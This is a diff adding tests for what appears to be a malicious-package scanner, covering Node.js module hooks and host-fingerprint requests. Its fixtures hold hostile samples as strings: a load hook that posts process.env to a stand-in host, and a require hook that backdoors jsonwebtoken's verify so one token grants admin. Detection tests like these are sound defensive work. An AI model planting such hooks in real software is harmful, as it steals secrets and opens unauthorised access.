@@ -160,3 +160,106 @@ describe('folders a package keeps under its own setting, and a monorepo’s work
     }
   });
 });
+
+describe('code a module hook adds to what the application loads (round 65)', () => {
+  const esmHooks = (loadBody: string) => ({
+    'package.json': JSON.stringify({
+      name: 'paths-alias-loader',
+      version: '1.0.0',
+      type: 'module',
+      main: 'register.js',
+    }),
+    'register.js': "import { register } from 'node:module';\nregister('./hooks.js', import.meta.url);\n",
+    'hooks.js': [
+      'let entry;',
+      'export async function initialize(data) { entry = data.entry; }',
+      'export async function resolve(specifier, context, next) { return next(specifier, context); }',
+      'export async function load(url, context, next) {',
+      '  const result = await next(url, context);',
+      loadBody,
+      '  return result;',
+      '}',
+    ].join('\n'),
+  });
+  it('an ESM load hook that puts code sending the environment in front of the entry module', () => {
+    const r = analyzeSource(
+      esmHooks(
+        [
+          "  const PROBE = `;(async () => { await fetch('https://edge.cfg-metrics.example/e', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {}); })();`;",
+          '  if (url === entry) return { ...result, source: PROBE + String(result.source), shortCircuit: true };',
+        ].join('\n'),
+      ),
+    );
+    expect(r.risk_level).toBe('critical');
+    expect(ruleOf(r, 'js.exfil-flow')?.message).toMatch(/module hook adds/);
+  });
+  it('a require hook that appends a backdoor to another package’s module', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': [
+        "const fs = require('fs'); const Module = require('module');",
+        'const SHIM = \';(function(){ const verify = module.exports; module.exports = function (t, k, o, cb) { if (t === "svc-maint-7f3c") return { role: "admin" }; return verify.apply(this, arguments); }; })();\';',
+        'const prev = Module._extensions[".js"];',
+        'Module._extensions[".js"] = function (mod, filename) {',
+        '  let src = fs.readFileSync(filename, "utf8");',
+        '  if (/\\/node_modules\\/jsonwebtoken\\/verify\\.js$/.test(filename)) src = src + SHIM;',
+        '  mod._compile(src, filename);',
+        '};',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.module-hook-tamper')?.message).toMatch(/jsonwebtoken\/verify\.js/);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('quiet: a TypeScript loader adding a banner and a source URL, a coverage hook adding counters', () => {
+    for (const files of <Record<string, string>[]>[
+      {
+        'register.js': "import { register } from 'node:module';\nregister('./hooks.js', import.meta.url);\n",
+        'hooks.js': [
+          "const BANNER = '/* compiled by ts-strip-loader; see the source map for the original file */\\n';",
+          'export async function load(url, context, next) {',
+          "  if (!url.endsWith('.ts') || url.includes('/node_modules/')) return next(url, context);",
+          '  const code = await transform(url);',
+          "  return { format: 'module', source: BANNER + code + '\\n//# sourceURL=' + url, shortCircuit: true };",
+          '}',
+        ].join('\n'),
+      },
+      {
+        'index.js': [
+          "const fs = require('fs'); const Module = require('module');",
+          "const HEADER = 'var __cov = (globalThis.__coverage__ = globalThis.__coverage__ || {}); __cov[__filename] = __cov[__filename] || { s: {} };\\n';",
+          'Module._extensions[".js"] = function (mod, filename) {',
+          '  if (/[\\\\/]node_modules[\\\\/]/.test(filename)) return mod._compile(fs.readFileSync(filename, "utf8"), filename);',
+          '  mod._compile(HEADER + instrument(fs.readFileSync(filename, "utf8")), filename);',
+          '};',
+        ].join('\n'),
+      },
+    ]) {
+      const r = analyzeSource({ 'package.json': pkg({ type: 'module' }), ...files });
+      expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
+    }
+  });
+});
+
+describe('host details sent to the package’s own service (round 67)', () => {
+  const login = (when: string) => ({
+    'package.json': JSON.stringify({ name: '@harbor-deploy/cli', version: '4.2.0', main: 'index.js' }),
+    'index.js': [
+      "const os = require('os');",
+      "const API = 'https://api.harbor-deploy.dev';",
+      'async function login() {',
+      "  const res = await fetch(new URL('/oauth/device/code', API), { method: 'POST', body: new URLSearchParams({ client_id: 'cli', device_name: `harbor-deploy on ${os.hostname()}` }) });",
+      '  return res.json();',
+      '}',
+      when,
+    ].join('\n'),
+  });
+  it('quiet: a login command naming the device to its own API', () => {
+    const r = analyzeSource(login('module.exports = { login };'));
+    expect(ruleOf(r, 'js.exfil-fingerprint')?.confidence ?? 0).toBeLessThan(0.5);
+    expect(r.risk_level).toBe('clean');
+  });
+  it('the same request made as soon as the package is loaded', () => {
+    const r = analyzeSource(login('login();'));
+    expect(ruleOf(r, 'js.exfil-fingerprint')?.confidence).toBeGreaterThanOrEqual(0.6);
+  });
+});
